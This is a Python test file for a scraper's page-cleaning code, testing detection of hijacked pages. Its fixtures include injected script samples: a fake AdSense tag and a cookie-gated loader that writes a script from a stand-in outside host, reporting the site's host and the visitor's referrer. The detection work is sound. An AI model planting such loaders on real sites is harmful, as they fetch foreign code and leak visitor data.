"""Loads judged by what the tag does, not by its host's shape (v44 §7 item 4):

- a <script src> carrying an ad vendor's own slot parameters (AdSense's google_ad_*) from a host that
  is no host of that vendor's, and that nothing else of the page names, is dressed as the vendor's
  tag (v44 §1 B2: office.js?google_ad_format=…&google_ad_type=… on an ordinary ccTLD host);
- a script that reads the visitor (cookie, referrer, device) and writes a <script src> from a host
  the page names nowhere else, telling it the page's own host, is a beacon-loader, its host spelt
  plainly in the code or not (v44 §3 rc44b-009, a cookie-gated jquery.min.php?…&utm_source=host);
- an e-paper's name for the printed page ("<paper>-03版:综合") as <title> is the paper's own, no spam.

The real vendor's tag, a vendor's loader appended with the site's host as its account, a widget
naming its site to its vendor without reading the visitor, and a counter sending the page's address
or a tag to a host the page links stay clean."""
from __future__ import annotations

from scraper.clean import clean_page
from scraper.clean.behaviour import dressed_tag
from scraper.clean.farm import edition_page_name
from tests.clean.conftest import kinds
from tests.clean.test_structural import BODY, HEADLINE, URL, page


def _with(script: str, top: str = "") -> bytes:
    return page(body=BODY + script, top=top)


def test_a_tag_dressed_as_an_ad_vendors_from_another_host_flags_the_page():
    tag = ('<script language="javascript" src="http://faq.example-help.cx/office.js?'
           'google_ad_format=728x90_as&google_ad_type=text_image"></script>')
    a = clean_page(_with(tag), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert "会议指出" in a.text


def test_the_vendors_own_tag_and_a_named_host_stay_clean():
    for tag, top in (
        ('<script src="https://pagead2.googlesyndication.com/pagead/show_ads.js?google_ad_client=ca-pub-1"></script>', ""),
        ('<script async src="https://pagead2.googlesyndication.com/pagead/js/adsbygoogle.js?client=ca-pub-1"></script>', ""),
        # a revive ad server's zone: no vendor's own parameter
        ('<script src="https://ads.example-news.com/revive/www/delivery/ajs.php?zoneid=3"></script>', ""),
        # the page names the host elsewhere: its own ad proxy
        ('<script src="https://ads.qingshan-media.cn/a.js?google_ad_slot=12"></script>',
         '<a href="https://ads.qingshan-media.cn/">广告服务</a>'),
    ):
        a = clean_page(_with(tag, top), url=URL)
        assert not a.hijacked, (tag, a.findings)


def test_dressed_tag_reads_the_parameters_and_the_host():
    assert dressed_tag("http://faq.example.cx/office.js?google_ad_format=728x90_as") == "Google's ad tag"
    assert dressed_tag("https://googleads.g.doubleclick.net/pagead/ads?google_ad_slot=1") is None
    assert dressed_tag("https://cm.example-ads.com/pixel?google_gid=abc&google_cm") is None  # cookie matching
    assert dressed_tag("http://faq.example.cx/google_ad_format.js") is None  # a file name is no parameter


_GATED_BEACON = (
    "<script>function getCookie(n){var m=document.cookie.match(new RegExp(n+'=([^;]*)'));return m?m[1]:null}"
    "function setCookie(n,v){document.cookie=n+'='+v+'; path=/'}"
    "if(!getCookie('__cfgx')){setCookie('__cfgx',1);document.write('<script type=\"text/javascript\" src=\"'"
    "+'http://langen.example-town.com/js/jquery.min.php'+'?key=b64&utm_campaign=K1&utm_source='+window.location.host"
    "+'&utm_term='+encodeURIComponent(document.referrer)+'\"><\\/script>')}</script>")


def test_a_visitor_reading_script_loading_code_that_reports_the_host_flags_the_page():
    a = clean_page(_with(_GATED_BEACON), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings
    assert any("page's host" in f.where for f in a.findings), a.findings


def test_a_written_tag_reporting_the_host_to_search_visitors_flags_the_page_too():
    script = ("<script>var r=document.referrer;if(r.indexOf('baidu.')>-1||r.indexOf('google.')>-1){"
              "document.write('<script src=\"https://cdn.example-beacon.net/j.php?r='+encodeURIComponent(r)"
              "+'&source='+location.host+'\"><\\/script>')}</script>")
    a = clean_page(_with(script), url=URL)
    assert a.hijacked and "spam_script" in kinds(a), a.findings


def test_widgets_and_counters_that_name_the_site_stay_clean():
    for script, top in (
        # a vendor's loader appended with the site's host as its account, after reading the cookie
        # (a consent manager's loader.js?target=<host>, a bidder's bidexchange.js?…&dn=<host>)
        ("<script>if(document.cookie.indexOf('consent=')<0){var s=document.createElement('script');"
         "s.src='https://sdk.example-privacy.org/d892ed41/loader.js?target='+location.host;"
         "document.head.appendChild(s)}</script>", ""),
        # an accessibility widget told the site's host, reading nothing of the visitor
        ("<script>var w=document.createElement('script');w.src='//service.example-gov.cn/wza/wza.js?app='"
         "+window.location.hostname;document.body.appendChild(w);</script>", ""),
        # a counter given the page's address and referrer (not the bare host)
        ("<script>document.write('<script src=\"http://count.example-stat.com/c.php?ref='+escape(document.referrer)"
         "+'&url='+escape(location.href)+'\"><\\/script>')</script>", ""),
        # the same beacon to a host the page links: its own vendor, named
        (_GATED_BEACON, '<a href="https://langen.example-town.com/">合作伙伴</a>'),
    ):
        a = clean_page(_with(script, top), url=URL)
        assert not a.hijacked, (script, a.findings)


def test_an_e_papers_page_name_as_title_is_no_spam():
    for title in ("运河·通州-03版:综合", "河南日报农村版-第02版:综合", "数字报-A3版:教育"):
        assert edition_page_name(title), title
        a = clean_page(page(title=title), url=URL)
        assert "spam_title" not in kinds(a), (title, a.findings)
        assert a.title in (HEADLINE, title), a.title
    for title in ("华为Mate20X 5G版半天不到需充电", "第3版", HEADLINE):
        assert not edition_page_name(title), title
